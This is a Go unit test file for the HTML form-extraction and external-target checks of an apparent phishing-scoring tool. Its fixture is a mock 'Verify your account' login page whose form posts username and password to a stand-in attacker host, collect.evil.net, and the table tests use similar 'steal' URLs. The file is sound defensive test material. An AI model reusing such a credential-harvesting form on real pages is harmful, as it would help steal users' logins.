// Copyright (c) 2024-2026 IT Help San Diego Inc.
// Licensed under BUSL-1.1 — See LICENSE for terms.
package content

import (
	"testing"

	"phishscore/internal/models"
)

const loginPage = `<!DOCTYPE html>
<html><head><title>  Verify your account </title></head>
<body>
<form id="a" action="https://collect.evil.net/post.php" method="post">
  <input type="text" name="user"><input type="PASSWORD" name="pass">
</form>
<form id="b"><input type="search" name="q"></form>
<form id="c" action="https://example.com/search" method="get"></form>
</body></html>`

func TestExtractTitleAndForms(t *testing.T) {
	title, forms := ExtractTitleAndForms(loginPage)

	if title != "Verify your account" {
		t.Errorf("title = %q, want %q", title, "Verify your account")
	}
	if len(forms) != 3 {
		t.Fatalf("got %d forms, want 3", len(forms))
	}

	first := forms[0]
	if !first.HasAction || first.Action != "https://collect.evil.net/post.php" {
		t.Errorf("first form action = %q (has=%v)", first.Action, first.HasAction)
	}
	if first.Method != "POST" {
		t.Errorf("first form method = %q, want POST", first.Method)
	}
	if first.Inputs != 2 || !first.HasPassword {
		t.Errorf("first form inputs=%d password=%v, want 2 and true", first.Inputs, first.HasPassword)
	}

	if forms[1].HasAction {
		t.Error("second form has no action attribute")
	}
	if forms[2].Action != "https://example.com/search" {
		t.Errorf("forms out of document order: third action = %q", forms[2].Action)
	}
}

func TestExtractTitleAndForms_NoTitle(t *testing.T) {
	title, forms := ExtractTitleAndForms("<html><body><p>hello</p></body></html>")
	if title != NoTitle {
		t.Errorf("title = %q, want %q", title, NoTitle)
	}
	if len(forms) != 0 {
		t.Errorf("expected no forms, got %d", len(forms))
	}
}

func TestExtractTitleAndForms_BrokenMarkup(t *testing.T) {
	for _, in := range []string{"", "<<<>>>", "\x00\xff\xfe garbage", "</html></body>"} {
		title, forms := ExtractTitleAndForms(in)
		if title != NoTitle {
			t.Errorf("ExtractTitleAndForms(%q) title = %q, want %q", in, title, NoTitle)
		}
		if len(forms) != 0 {
			t.Errorf("ExtractTitleAndForms(%q) returned %d forms, want 0", in, len(forms))
		}
	}
}

func TestExtractTitleAndForms_KeepsRawAction(t *testing.T) {
	_, forms := ExtractTitleAndForms(`<form action=" "></form>`)
	if len(forms) != 1 || !forms[0].HasAction || forms[0].Action != " " {
		t.Fatalf("forms = %+v, want one form with action %q", forms, " ")
	}
	if !HasExternalFormTarget(forms, "example.com") {
		t.Error("a whitespace-only action should count as external")
	}
}

func TestExtractTitleAndForms_NestedForms(t *testing.T) {
	_, forms := ExtractTitleAndForms("<form action='x'><form action='y'></form></form>")
	if len(forms) != 1 || forms[0].Action != "x" {
		t.Errorf("nested form should be dropped by the parser, got %+v", forms)
	}
}

func TestExtractTitleAndForms_Deterministic(t *testing.T) {
	_, a := ExtractTitleAndForms(loginPage)
	_, b := ExtractTitleAndForms(loginPage)
	if len(a) != len(b) {
		t.Fatalf("form counts differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Errorf("form %d differs between runs: %+v vs %+v", i, a[i], b[i])
		}
	}
}

func TestHasExternalFormTarget(t *testing.T) {
	tests := []struct {
		name  string
		forms []models.Form
		want  bool
	}{
		{"no forms", nil, false},
		{"no action", []models.Form{{}}, false},
		{"empty action", []models.Form{{HasAction: true, Action: ""}}, false},
		{"same domain", []models.Form{{HasAction: true, Action: "https://example.com/login"}}, false},
		{"subdomain mentions own", []models.Form{{HasAction: true, Action: "https://auth.example.com/login"}}, false},
		{"external", []models.Form{{HasAction: true, Action: "https://evil.net/steal"}}, true},
		{"relative path", []models.Form{{HasAction: true, Action: "/login.php"}}, true},
		{"mixed case host", []models.Form{{HasAction: true, Action: "https://Shop.EXAMPLE.com/cart"}}, false},
		{"whitespace action", []models.Form{{HasAction: true, Action: " "}}, true},
		{"one of many", []models.Form{
			{HasAction: true, Action: "https://example.com/a"},
			{},
			{HasAction: true, Action: "http://198.51.100.7/x"},
		}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := HasExternalFormTarget(tt.forms, "example.com"); got != tt.want {
				t.Errorf("HasExternalFormTarget() = %v, want %v", got, tt.want)
			}
		})
	}
}
